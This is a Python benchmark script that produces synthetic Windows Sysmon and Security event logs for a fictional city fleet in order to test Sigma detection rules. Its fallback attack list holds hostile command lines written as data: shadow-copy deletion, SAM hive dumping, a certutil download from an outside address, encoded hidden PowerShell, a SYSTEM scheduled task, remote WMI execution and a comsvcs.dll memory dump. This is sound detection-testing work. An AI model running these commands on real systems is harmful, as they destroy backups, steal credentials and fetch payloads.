"""Synthetic Windows events for the rule bench: a host fleet's day, or attacks, varied so that texts seldom repeat.

``python benchmarks/sigma_events.py OUT [--events N] [--mix fleet|attack] [--form flat|nested] [--seed N] [--data DIR]``
writes NDJSON. The fleet's classes of events stand in the proportions of hosts with Sysmon; two in a hundred events
are attacks. Attacks are the recorded ones of DIR (rule regressions and event logs) where it is there, else those below,
each time with other hosts, accounts, addresses, ids, hashes and arguments. ``flat`` events name their fields as rules
do, and their log source in ``_p _s _c`` (``none`` where there is no category); ``nested`` ones are as event logs export
them. The same seed writes the same bytes.
"""

from __future__ import annotations

import argparse
import random
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import evtx
import orjson

from cityguard.decoders import taxonomy, windows

DATA = Path(__file__).parents[2] / "shared" / "data"
ATTACKS = 0.02
"""Share of attacks in the fleet's mix."""
Header = dict[str, Any]
Payload = dict[str, Any]
Event = tuple[Header, Payload]

_SYSMON, _SECURITY = taxonomy.SYSMON, "Security"
_POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
_PROVIDERS = {
    _SYSMON: "Microsoft-Windows-Sysmon",
    _SECURITY: "Microsoft-Windows-Security-Auditing",
    _POWERSHELL: "Microsoft-Windows-PowerShell",
    "System": "Service Control Manager",
    "Application": "MsiInstaller",
}
_START = datetime(2026, 3, 2, tzinfo=UTC)
_DAY_MS = 86_400_000

# ---------------------------------------------------------------- words

_SURNAMES = (
    "li",
    "wang",
    "zhang",
    "liu",
    "chen",
    "yang",
    "zhao",
    "huang",
    "zhou",
    "wu",
    "xu",
    "sun",
    "ma",
    "zhu",
    "hu",
    "guo",
)
_GIVEN = ("wei", "fang", "na", "min", "jing", "lei", "qiang", "yan", "jie", "tao", "ming", "chao", "xia", "gang")
_UNITS = ("FIN", "HR", "TAX", "OPS", "REG", "LAND", "WATER", "EDU", "DC", "FS")
_VENDORS = ("Contoso Reader", "Northwind Office", "Fabrikam Sync", "City Forms", "Seal Client", "Mail Desk", "WebMeet")
_PROGRAMS = ("agent", "helper", "sync", "report", "viewer", "broker", "worker", "host", "tray", "updater", "launcher")
_STARTED = (  # image, arguments, parent: what starts what on a healthy host
    ("svchost.exe", "-k {service}", "services.exe"), ("taskhostw.exe", "{{{guid}}}", "svchost.exe"),
    ("RuntimeBroker.exe", "-Embedding", "svchost.exe"), ("dllhost.exe", "/Processid:{{{guid}}}", "svchost.exe"),
    ("backgroundTaskHost.exe", "-ServerName:App.AppX{hex}.mca", "svchost.exe"),
    ("SearchProtocolHost.exe", "Global\\UsGthrFltPipeMssGthrPipe_{sid}{n} Global\\{n} {hex}", "SearchIndexer.exe"),
    ("SearchFilterHost.exe", "0 {n} {n} {hex}", "SearchIndexer.exe"), ("smartscreen.exe", "-Embedding", "svchost.exe"),
    ("audiodg.exe", "0x{hex} 0x{n}", "svchost.exe"), ("sihost.exe", "", "svchost.exe"),
    ("CompatTelRunner.exe", "-m:appraiser.dll -f:DoScheduledTelemetryRun -cv:{hex}", "taskhostw.exe"),
    ("WmiPrvSE.exe", "-secured -Embedding", "svchost.exe"), ("spoolsv.exe", "", "services.exe"),
)  # fmt: skip
_SYSTEM = tuple(image for image, _, _ in _STARTED)
_SERVICES = (
    "netsvcs -p -s Schedule", "netsvcs -p -s wuauserv", "LocalService -p -s NetSetupSvc",
    "LocalSystemNetworkRestricted", "UnistackSvcGroup -s CDPUserSvc",
    "NetworkService -p -s DoSvc", "wsappx -p -s AppXSvc", "DcomLaunch -p -s LSM",
)  # fmt: skip
_DLLS = (
    "ntdll.dll", "kernel32.dll", "KernelBase.dll", "advapi32.dll", "msvcrt.dll", "sechost.dll", "rpcrt4.dll",
    "combase.dll", "ucrtbase.dll", "user32.dll", "gdi32.dll", "gdi32full.dll", "shlwapi.dll", "shell32.dll",
    "ole32.dll", "oleaut32.dll", "ws2_32.dll", "mswsock.dll", "crypt32.dll", "bcrypt.dll", "propsys.dll", "uxtheme.dll",
    "dwmapi.dll", "windows.storage.dll", "twinapi.dll", "urlmon.dll", "iertutil.dll", "srvcli.dll", "netutils.dll",
)  # fmt: skip
_EXTENSIONS = ("log", "tmp", "json", "etl", "db-wal", "dat", "xml", "txt", "docx", "xlsx", "pdf", "png", "cache", "pf")
_FOLDERS = (
    r"AppData\Local\Packages\Contoso.Reader_8wekyb3d8bbwe\LocalState", r"AppData\Local\City Forms\Cache",
    r"AppData\Roaming\Mail Desk\Store", r"Documents\2026\Reports", r"Downloads\Forms", r"Pictures\Scans",
    r"AppData\Local\Fabrikam Sync\Logs", r"OneDrive\Shared",
)  # fmt: skip
_KEYS = (
    r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters\Interfaces\{guid}\DhcpIPAddress",
    r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\{sid}\{path}",
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Diagnostics\Trace\{guid}\Status",
    r"HKU\{sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\{n}",
    r"HKU\{sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Search\Queries\{n}",
    r"HKLM\SOFTWARE\Fabrikam\Sync\Devices\{guid}\LastSeen", r"HKU\{sid}\SOFTWARE\Northwind\Office\Recent\{n}",
    r"HKLM\System\CurrentControlSet\Control\DeviceContainers\{guid}\Properties\{n}",
)  # fmt: skip
_DETAILS = ("DWORD (0x00000001)", "DWORD (0x00000000)", "Binary Data", "QWORD (0x01d9-0x2e4f)", "(Empty)")
_NAMES = (
    "{w}.city.example", "{w}.forms.city.example", "cdn-{w}.fabrikam.example", "sync{n}.fabrikam.example",
    "{w}.northwind.example", "time{n}.ntp.example", "{w}.updates.contoso.example", "mail{n}.city.example",
)  # fmt: skip
_SHELLS = (
    r'"C:\Program Files\{vendor}\{program}.exe" --profile={n} --session {guid}',
    r'"C:\Program Files (x86)\{vendor}\{program}.exe" /background /id:{hex}',
    r'"C:\Program Files\{vendor}\{program}.exe" "C:\Users\{user}\Documents\{n}.docx"',
    r'"C:\Program Files\{vendor}\{program}.exe" --type=renderer --lang=zh-CN --field={n},{hex}',
    r'"C:\Program Files\{vendor}\{program}.exe" -sync -from \\FS{n}\share\{unit} -to D:\data\{hex}',
)  # fmt: skip
_SCRIPTS = (
    "function Get-CityReport {{ param($Unit) Get-ChildItem \\\\FS{n}\\reports\\$Unit | Sort-Object Name }}\n# {hex}",
    "$rows = Import-Csv 'D:\\data\\{hex}.csv'\nforeach ($row in $rows) {{ Write-Output $row.Name }}",
    "Get-Service | Where-Object Status -eq 'Running' | Export-Csv D:\\reports\\{hex}.csv",
    "{{ $_.Name -like '{w}*' }} # {hex}",
)
_SHARES = (r"\\*\reports", r"\\*\forms", r"\\*\scans", r"\\*\SYSVOL")
_OWN = (  # attacks for machines without the recorded ones
    (r"C:\Windows\System32\whoami.exe", "whoami /all", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\reg.exe", r"reg save HKLM\SAM C:\Users\Public\s.hiv", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\certutil.exe", "certutil -urlcache -f http://198.51.100.7/a.exe a.exe",
     r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4A",
     r"C:\Windows\System32\wscript.exe"),
    (r"C:\Windows\System32\schtasks.exe", r"schtasks /create /tn upd /tr C:\Users\Public\u.exe /sc minute /ru SYSTEM",
     r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:10.1.1.1 process call create calc", r"C:\Windows\explorer.exe"),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 612 l.dmp full",
     r"C:\Windows\System32\cmd.exe"),
)  # fmt: skip


class Fleet:
    """Hosts and people, and what they do; one stream of random numbers."""

    def __init__(self, seed: int, attacks: list[Event]) -> None:
        self.random = random.Random(seed)
        self.bits = self.random.getrandbits
        self.pick = self.random.choice
        self.users = [f"{self.pick(_SURNAMES)}{self.pick(_GIVEN)}{n:03d}" for n in range(3000)]
        self.hosts = [f"{self.pick(_UNITS)}-PC{n:04d}.city.example" for n in range(4000)]
        self.sids = [f"S-1-5-21-{self.bits(31)}-{self.bits(31)}-{self.bits(31)}-{1000 + n}" for n in range(3000)]
        self.attacks = attacks or self._own()
        self._makers, weights = zip(*_CLASSES, strict=True)
        self._weights = [sum(weights[: n + 1]) for n in range(len(weights))]

    def events(self, count: int, mix: str) -> Iterator[Event]:
        """So many events; ``mix`` is fleet or attack."""
        chance = self.random.random
        for number in range(count):
            if mix == "attack" or chance() < ATTACKS:
                header, payload = self._varied(*self.pick(self.attacks))
            else:
                (make,) = self.random.choices(self._makers, cum_weights=self._weights)
                header, payload = make(self)
            stamp = _START + timedelta(milliseconds=self.bits(32) % _DAY_MS)
            header["Computer"] = self.pick(self.hosts)
            header["EventRecordID"] = number
            header["SystemTime"] = stamp.strftime("%Y-%m-%dT%H:%M:%S.") + f"{self.bits(20) % 1_000_000:06d}Z"
            if "UtcTime" in payload:
                payload["UtcTime"] = header["SystemTime"][:23].replace("T", " ")
            yield header, payload

    # ------------------------------------------------------------ values

    def guid(self) -> str:
        text = f"{self.bits(128):032X}"
        return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"

    def braced(self) -> str:
        return "{" + self.guid() + "}"

    def number(self) -> int:
        return 4 + self.bits(17)

    def address(self) -> str:
        return f"10.{self.bits(8)}.{self.bits(8)}.{self.bits(8)}"

    def hashes(self) -> str:
        told = f"SHA1={self.bits(160):040X},MD5={self.bits(128):032X},SHA256={self.bits(256):064X}"
        return f"{told},IMPHASH={self.bits(128):032X}"

    def image(self) -> str:
        if self.bits(3) < 3:
            return rf"C:\Program Files\{self.pick(_VENDORS)}\{self.bits(6)}\{self.pick(_PROGRAMS)}{self.bits(4)}.exe"
        return rf"C:\Windows\System32\{self.pick(_SYSTEM)}"

    def started(self) -> tuple[str, str, str]:
        """A process: its image, its command line, its parent's image."""
        if self.bits(3) < 4:
            image = rf"C:\Program Files\{self.pick(_VENDORS)}\{self.bits(6)}\{self.pick(_PROGRAMS)}{self.bits(4)}.exe"
            return image, self.filled(self.pick(_SHELLS)), r"C:\Windows\explorer.exe"
        image, arguments, parent = self.pick(_STARTED)
        command = rf"C:\Windows\System32\{image} {self.filled(arguments)}".rstrip()
        return rf"C:\Windows\System32\{image}", command, rf"C:\Windows\System32\{parent}"

    def filled(self, text: str) -> str:
        return text.format(
            vendor=self.pick(_VENDORS), program=self.pick(_PROGRAMS), system=self.pick(_SYSTEM), n=self.bits(16),
            service=self.pick(_SERVICES), user=self.pick(self.users), unit=self.pick(_UNITS), guid=self.guid(),
            hex=f"{self.bits(32):08x}", sid=self.pick(self.sids), path=r"\Device\HarddiskVolume3\Windows\explorer.exe",
            w=f"{self.pick(_GIVEN)}{self.bits(12)}",
        )  # fmt: skip

    def path(self) -> str:
        folder = rf"C:\Users\{self.pick(self.users)}\{self.pick(_FOLDERS)}"
        return rf"{folder}\{self.bits(32):08x}.{self.pick(_EXTENSIONS)}"

    def account(self) -> str:
        return rf"CITY\{self.pick(self.users)}" if self.bits(1) else r"NT AUTHORITY\SYSTEM"

    # ------------------------------------------------------------ attacks

    def _own(self) -> list[Event]:
        made = []
        for image, command, parent in _OWN:
            header, payload = process(self)
            payload |= {"Image": image, "OriginalFileName": image.rpartition("\\")[2], "CommandLine": command}
            made.append((header, payload | {"ParentImage": parent, "ParentCommandLine": parent}))
        return made

    def _varied(self, header: Header, payload: Payload) -> Event:
        """The same event of another host, account and moment."""
        user, tail = self.pick(self.users), f"{self.bits(32):08x}"
        out: Payload = {}
        for name, value in payload.items():
            if isinstance(value, int) and not isinstance(value, bool):
                value = self.number() if name.endswith(("Id", "ID", "Port")) and "Event" not in name else value
            elif isinstance(value, str):
                value = self._text(name, value, user, tail)
            out[name] = value
        return dict(header), out

    def _text(self, name: str, value: str, user: str, tail: str) -> str:
        if "\\" in value:
            value = _HOME.sub(lambda found: f"{found[1]}{user}{found[2]}", value)
        if name in ("CommandLine", "ParentCommandLine"):
            return f"{value} --sid={tail}" if value and self.bits(3) < 5 else value
        if name == "ScriptBlockText":
            return f"{value}\n# {tail}"
        if name.startswith("Hash"):
            return _HASH.sub(lambda found: f"{self.bits(4 * len(found[0])):0{len(found[0])}X}", value)
        return _GUID.sub(lambda _: self.guid(), value) if "-" in value else value


_HOME = re.compile(r"(?i)(c:\\users\\)[^\\]+(\\)")
_HASH = re.compile(r"[0-9A-F]{32,}")
_GUID = re.compile(r"[0-9A-Fa-f]{8}(?:-[0-9A-Fa-f]{4}){3}-[0-9A-Fa-f]{12}")

# ---------------------------------------------------------------- classes of events


def _sysmon(number: int) -> Header:
    return {"Channel": _SYSMON, "EventID": number, "Provider_Name": _PROVIDERS[_SYSMON], "Level": 4}


def _security(number: int) -> Header:
    told = {"Channel": _SECURITY, "EventID": number, "Provider_Name": _PROVIDERS[_SECURITY], "Level": 0}
    return told | {"Keywords": "0x8020000000000000"}


def process(f: Fleet) -> Event:
    image, command, parent = f.started()
    name = image.rpartition("\\")[2]
    return _sysmon(1), {
        "RuleName": "-", "UtcTime": "", "ProcessGuid": f.braced(), "ProcessId": f.number(), "Image": image,
        "FileVersion": f"{f.bits(4)}.0.{f.bits(14)}.{f.bits(10)}", "Description": f"{name[:-4]} component",
        "Product": f.pick(_VENDORS), "Company": "Contoso Ltd.", "OriginalFileName": name,
        "CommandLine": command, "CurrentDirectory": "C:\\Windows\\system32\\", "User": f.account(),
        "LogonGuid": f.braced(), "LogonId": f"0x{f.bits(24):x}", "TerminalSessionId": f.bits(2),
        "IntegrityLevel": f.pick(("Medium", "System", "High", "AppContainer")), "Hashes": f.hashes(),
        "ParentProcessGuid": f.braced(), "ParentProcessId": f.number(),
        "ParentImage": parent, "ParentCommandLine": f"{parent} -{f.bits(8)}",
        "ParentUser": r"NT AUTHORITY\SYSTEM",
    }  # fmt: skip


def module(f: Fleet) -> Event:
    name = f.pick(_DLLS)
    folder = r"C:\Windows\System32"
    if not f.bits(2):
        folder, name = rf"C:\Program Files\{f.pick(_VENDORS)}\{f.bits(32):08x}", f"{f.pick(_PROGRAMS)}{f.bits(6)}.dll"
    return _sysmon(7), {
        "RuleName": "-", "UtcTime": "", "ProcessGuid": f.braced(), "ProcessId": f.number(), "Image": f.image(),
        "ImageLoaded": rf"{folder}\{name}", "FileVersion": f"10.0.{f.bits(14)}.{f.bits(10)}",
        "Description": f"{name[:-4]} library", "Product": "Microsoft Windows Operating System",
        "Company": "Microsoft Corporation", "OriginalFileName": name, "Hashes": f.hashes(), "Signed": "true",
        "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "User": f.account(),
    }  # fmt: skip


def connection(f: Fleet) -> Event:
    return _sysmon(3), {
        "RuleName": "-", "UtcTime": "", "ProcessGuid": f.braced(), "ProcessId": f.number(), "Image": f.image(),
        "User": f.account(), "Protocol": f.pick(("tcp", "udp")), "Initiated": f.pick(("true", "false")),
        "SourceIsIpv6": "false", "SourceIp": f.address(), "SourceHostname": f.pick(f.hosts),
        "SourcePort": 49152 + f.bits(14), "SourcePortName": "-", "DestinationIsIpv6": "false",
        "DestinationIp": f.address(), "DestinationHostname": f.filled(f.pick(_NAMES)),
        "DestinationPort": f.pick((443, 443, 80, 53, 8530)), "DestinationPortName": "-",
    }  # fmt: skip


def file_created(f: Fleet) -> Event:
    return _sysmon(11), {
        "RuleName": "-", "UtcTime": "", "ProcessGuid": f.braced(), "ProcessId": f.number(), "Image": f.image(),
        "TargetFilename": f.path(), "CreationUtcTime": "2026-03-01 08:11:12.120", "User": f.account(),
    }  # fmt: skip


def value_set(f: Fleet) -> Event:
    return _sysmon(13), {
        "RuleName": "-", "EventType": "SetValue", "UtcTime": "", "ProcessGuid": f.braced(), "ProcessId": f.number(),
        "Image": f.image(), "TargetObject": f.filled(f.pick(_KEYS)), "Details": f.pick(_DETAILS), "User": f.account(),
    }  # fmt: skip


def key_made(f: Fleet) -> Event:
    return _sysmon(12), {
        "RuleName": "-", "EventType": f.pick(("CreateKey", "DeleteValue")), "UtcTime": "", "ProcessGuid": f.braced(),
        "ProcessId": f.number(), "Image": f.image(), "TargetObject": f.filled(f.pick(_KEYS)), "User": f.account(),
    }  # fmt: skip


def accessed(f: Fleet) -> Event:
    trace = "|".join(rf"C:\Windows\SYSTEM32\{f.pick(_DLLS)}+{f.bits(20):x}" for _ in range(4))
    return _sysmon(10), {
        "RuleName": "-", "UtcTime": "", "SourceProcessGUID": f.braced(), "SourceProcessId": f.number(),
        "SourceThreadId": f.number(), "SourceImage": f.image(), "TargetProcessGUID": f.braced(),
        "TargetProcessId": f.number(), "TargetImage": f.image(),
        "GrantedAccess": f.pick(("0x1000", "0x1400", "0x3000")), "CallTrace": trace,
        "SourceUser": f.account(), "TargetUser": f.account(),
    }  # fmt: skip


def asked(f: Fleet) -> Event:
    return _sysmon(22), {
        "RuleName": "-", "UtcTime": "", "ProcessGuid": f.braced(), "ProcessId": f.number(),
        "QueryName": f.filled(f.pick(_NAMES)), "QueryStatus": "0", "QueryResults": f"::ffff:{f.address()};",
        "Image": f.image(), "User": f.account(),
    }  # fmt: skip


def ended(f: Fleet) -> Event:
    told = {"RuleName": "-", "UtcTime": "", "ProcessGuid": f.braced(), "ProcessId": f.number()}
    return _sysmon(5), told | {"Image": f.image(), "User": f.account()}


def pipe(f: Fleet) -> Event:
    told = {"RuleName": "-", "EventType": "CreatePipe", "UtcTime": "", "ProcessGuid": f.braced()}
    name = rf"\{f.pick(_PROGRAMS)}.{f.bits(32):08x}"
    return _sysmon(17), told | {"ProcessId": f.number(), "PipeName": name, "Image": f.image(), "User": f.account()}


def logon(f: Fleet) -> Event:
    user = f.pick(f.users)
    return _security(4624), {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "SRV$", "SubjectDomainName": "CITY", "SubjectLogonId": "0x3e7",
        "TargetUserSid": f.pick(f.sids), "TargetUserName": user, "TargetDomainName": "CITY",
        "TargetLogonId": f"0x{f.bits(28):x}", "LogonType": f.pick(("2", "5", "7", "11")),
        "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate", "WorkstationName": f.pick(f.hosts),
        "LogonGuid": f.braced(), "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0",
        "ProcessId": f"0x{f.number():x}", "ProcessName": r"C:\Windows\System32\svchost.exe", "IpAddress": f.address(),
        "IpPort": str(1024 + f.bits(14)), "ImpersonationLevel": "%%1833", "ElevatedToken": "%%1843",
    }  # fmt: skip


def audited(f: Fleet) -> Event:
    image, command, parent = f.started()
    user = f.pick(f.users)
    return _security(4688), {
        "SubjectUserSid": f.pick(f.sids), "SubjectUserName": user, "SubjectDomainName": "CITY",
        "SubjectLogonId": f"0x{f.bits(24):x}", "NewProcessId": f"0x{f.number():x}", "NewProcessName": image,
        "Image": image, "TokenElevationType": "%%1938", "ProcessId": f"0x{f.number():x}",
        "CommandLine": command, "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
        "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": parent, "ParentImage": parent,
        "MandatoryLabel": "S-1-16-8192", "User": rf"CITY\{user}", "LogonId": f"0x{f.bits(24):x}",
    }  # fmt: skip


def handled(f: Fleet) -> Event:
    return _security(4663), {
        "SubjectUserSid": f.pick(f.sids), "SubjectUserName": f.pick(f.users), "SubjectDomainName": "CITY",
        "SubjectLogonId": f"0x{f.bits(24):x}", "ObjectServer": "Security", "ObjectType": "File",
        "ObjectName": f.path(), "HandleId": f"0x{f.bits(12):x}", "AccessList": "%%4417", "AccessMask": "0x2",
        "ProcessId": f"0x{f.number():x}", "ProcessName": f.image(), "ResourceAttributes": "S:AI",
    }  # fmt: skip


def shared(f: Fleet) -> Event:
    return _security(5145), {
        "SubjectUserSid": f.pick(f.sids), "SubjectUserName": f.pick(f.users), "SubjectDomainName": "CITY",
        "SubjectLogonId": f"0x{f.bits(24):x}", "ObjectType": "File", "IpAddress": f.address(),
        "IpPort": str(1024 + f.bits(14)), "ShareName": f.pick(_SHARES), "ShareLocalPath": r"\??\D:\share",
        "RelativeTargetName": rf"{f.pick(_UNITS)}\{f.bits(32):08x}.{f.pick(_EXTENSIONS)}", "AccessMask": "0x120089",
        "AccessList": "%%1538", "AccessReason": "-",
    }  # fmt: skip


def script(f: Fleet) -> Event:
    header = {"Channel": _POWERSHELL, "EventID": 4104, "Provider_Name": _PROVIDERS[_POWERSHELL], "Level": 5}
    return header, {
        "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": f.filled(f.pick(_SCRIPTS)),
        "ScriptBlockId": f.guid().lower(), "Path": rf"D:\scripts\{f.pick(_GIVEN)}{f.bits(8)}.ps1",
    }  # fmt: skip


def installed(f: Fleet) -> Event:
    header = {"Channel": "System", "EventID": 7045, "Provider_Name": _PROVIDERS["System"], "Level": 4}
    name = f"{f.pick(_VENDORS)} Service {f.bits(8)}"
    path = rf'"C:\Program Files\{f.pick(_VENDORS)}\{f.pick(_PROGRAMS)}.exe" --service {f.bits(32):08x}'
    told = {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service", "StartType": "auto start"}
    return header, told | {"AccountName": "LocalSystem"}


def other(f: Fleet) -> Event:
    """Of many channels, little by little."""
    channel, number, provider = f.pick(_OTHERS)
    header = {"Channel": channel, "EventID": number, "Provider_Name": provider, "Level": 4}
    told = {"param1": f.filled(f.pick(_NAMES)), "param2": f"{f.bits(32):08x}", "param3": f.image()}
    return header, told | {"Status": f"0x{f.bits(4):x}"}


_OTHERS = (
    ("System", 7036, "Service Control Manager"), ("System", 7040, "Service Control Manager"),
    ("System", 37, "Microsoft-Windows-Time-Service"), ("System", 1014, "Microsoft-Windows-DNS-Client"),
    ("Application", 1033, "MsiInstaller"), ("Application", 15, "SecurityCenter"), ("Application", 4097, "CAPI2"),
    ("Security", 4648, _PROVIDERS[_SECURITY]), ("Security", 4672, _PROVIDERS[_SECURITY]),
    ("Security", 5156, _PROVIDERS[_SECURITY]), ("Security", 4658, _PROVIDERS[_SECURITY]),
    ("Microsoft-Windows-TaskScheduler/Operational", 201, "Microsoft-Windows-TaskScheduler"),
    ("Microsoft-Windows-TaskScheduler/Operational", 100, "Microsoft-Windows-TaskScheduler"),
    ("Microsoft-Windows-Bits-Client/Operational", 59, "Microsoft-Windows-Bits-Client"),
    ("Microsoft-Windows-WMI-Activity/Operational", 5857, "Microsoft-Windows-WMI-Activity"),
    ("Microsoft-Windows-DNS-Client/Operational", 3008, "Microsoft-Windows-DNS-Client"),
    ("Microsoft-Windows-WinRM/Operational", 91, "Microsoft-Windows-WinRM"),
    ("Microsoft-Windows-GroupPolicy/Operational", 5016, "Microsoft-Windows-GroupPolicy"),
    ("Microsoft-Windows-NTLM/Operational", 8001, "Microsoft-Windows-NTLM"),
    ("Microsoft-Windows-Windows Defender/Operational", 1150, "Microsoft-Windows-Windows Defender"),
)  # fmt: skip
Make = Callable[[Fleet], Event]
_CLASSES: tuple[tuple[Make, float], ...] = (
    (process, 15), (module, 18), (connection, 14), (file_created, 11), (value_set, 10), (key_made, 5), (accessed, 6),
    (asked, 4), (ended, 4), (pipe, 1), (logon, 4), (audited, 4), (handled, 2), (shared, 3), (script, 1),
    (installed, 0.2), (other, 6),
)  # fmt: skip
"""Classes of events and their share."""

# ---------------------------------------------------------------- recorded attacks


def recorded(data: Path) -> list[Event]:
    """Events of rule regressions and event logs under a folder of third-party data; none where it is not there."""
    found: list[Event] = []
    for path in sorted(data.glob("sigma/*/event.json*")):
        found += _events(path.read_bytes().splitlines() if path.suffix != ".json" else [path.read_bytes()])
    for path in sorted(data.glob("evtx/**/*.evtx")):
        found += _events(record["data"].encode() for record in evtx.PyEvtxParser(str(path)).records_json() if record)
    return found


def _events(texts: Any) -> Iterator[Event]:
    for text in texts:
        try:
            rows = orjson.loads(text)
        except orjson.JSONDecodeError:
            continue
        for row in rows if isinstance(rows, list) else [rows]:
            parts = windows.split(row) if isinstance(row, dict) and "Event" in row else None
            if parts is not None:
                header, payload = ({k: v for k, v in part.items() if v is not None} for part in parts)
                yield {k: v for k, v in header.items() if k in _KEPT}, payload


_KEPT = ("Channel", "EventID", "Provider_Name", "Level", "Keywords")

# ---------------------------------------------------------------- forms


def flat(header: Header, payload: Payload) -> bytes:
    """Fields as rules name them, and the log source."""
    source = taxonomy.logsource(header["Channel"], header["EventID"], str(payload.get("EventType", "")))
    told = {"_p": "windows", "_s": source.service[0] if source.service else "none"}
    told["_c"] = source.category[0] if source.category else "none"
    if header["EventID"] == 4688 and header["Channel"] == _SECURITY:
        payload = {rule: payload[name] for rule, name in _WORDS if name in payload} | payload
    return orjson.dumps(told | header | payload) + b"\n"


_WORDS = (("Image", "NewProcessName"), ("ParentImage", "ParentProcessName"), ("LogonId", "SubjectLogonId"))
"""Rules' words for a process that the Security channel tells of."""


def nested(header: Header, payload: Payload) -> bytes:
    """As event logs are exported."""
    system = {name: header[name] for name in ("EventID", "Channel", "Computer", "EventRecordID", "Level")}
    system["Provider"] = {"#attributes": {"Name": header["Provider_Name"]}}
    system["TimeCreated"] = {"#attributes": {"SystemTime": header["SystemTime"]}}
    if "Keywords" in header:
        system["Keywords"] = header["Keywords"]
    return orjson.dumps({"Event": {"System": system, "EventData": payload}}) + b"\n"


def write(
    path: Path, count: int, *, mix: str = "fleet", form: str = "flat", seed: int = 7, data: Path = DATA
) -> dict[str, int]:
    """Write a file of events.

    Args:
        path: NDJSON, written anew.
        count: events.
        mix: ``fleet`` or ``attack``.
        form: ``flat`` or ``nested``.
        seed: of all that is random.
        data: where recorded attacks are looked for.

    Returns:
        Events, bytes, and recorded attacks that were varied.
    """
    attacks = recorded(data)
    fleet, written = Fleet(seed, attacks), 0
    line = {"flat": flat, "nested": nested}[form]
    with path.open("wb") as file:
        for header, payload in fleet.events(count, mix):
            written += file.write(line(header, payload))
    return {"events": count, "bytes": written, "recorded": len(attacks)}


def main() -> None:
    """Write one file."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("out", type=Path)
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--mix", choices=("fleet", "attack"), default="fleet")
    parser.add_argument("--form", choices=("flat", "nested"), default="flat")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--data", type=Path, default=DATA)
    given = parser.parse_args()
    made = write(given.out, given.events, mix=given.mix, form=given.form, seed=given.seed, data=given.data)
    print(orjson.dumps(made).decode())


if __name__ == "__main__":
    main()
